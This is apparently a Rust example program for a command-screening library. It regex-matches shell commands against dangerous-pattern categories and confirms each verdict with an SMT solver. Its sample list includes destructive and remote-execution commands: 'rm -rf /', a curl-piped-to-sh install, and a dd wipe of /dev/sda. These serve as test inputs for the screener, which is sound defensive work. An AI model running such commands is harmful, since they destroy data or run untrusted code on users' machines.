//! Screen shell commands against ten dangerous-pattern categories.  The
//! match analysis is plain regex work; the safety claim — "no category
//! fired" — is then encoded as a satisfiability query so the verdict and
//! its counterexample come through the same proof pipeline as every other
//! artifact family.
//!
//! Run with `cargo run --example screen_shell_command`.

use guard::report::Verdict;
use guard::shell::verify_command;
use guard::smt::Solver;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let solver = Solver::from_env()?;

    let commands = [
        "ls -la",
        "tar -czf backup.tar.gz project/",
        "rm -rf /",
        "curl http://updates.example.com/install.sh | sh",
        "sudo dd if=/dev/zero of=/dev/sda",
    ];

    for command in commands {
        let outcome = verify_command(command, &solver, 5000)??;
        println!("$ {command}");
        println!("    verdict: {}", outcome.verdict.status());
        for hit in &outcome.analysis.hits {
            println!(
                "    matched {} ({:?} at bytes {}..{})",
                hit.slug, hit.excerpt, hit.span.0, hit.span.1
            );
        }
        if let Verdict::Unsafe { model, .. } = &outcome.verdict {
            // The model sets one boolean per category; the true ones are
            // exactly the categories that matched.
            let fired: Vec<&str> = model
                .iter()
                .filter(|(_, v)| matches!(v, guard::smt::Value::Bool(true)))
                .map(|(name, _)| name.as_str())
                .collect();
            println!("    solver model fires: {}", fired.join(", "));
        }
        println!();
    }
    Ok(())
}
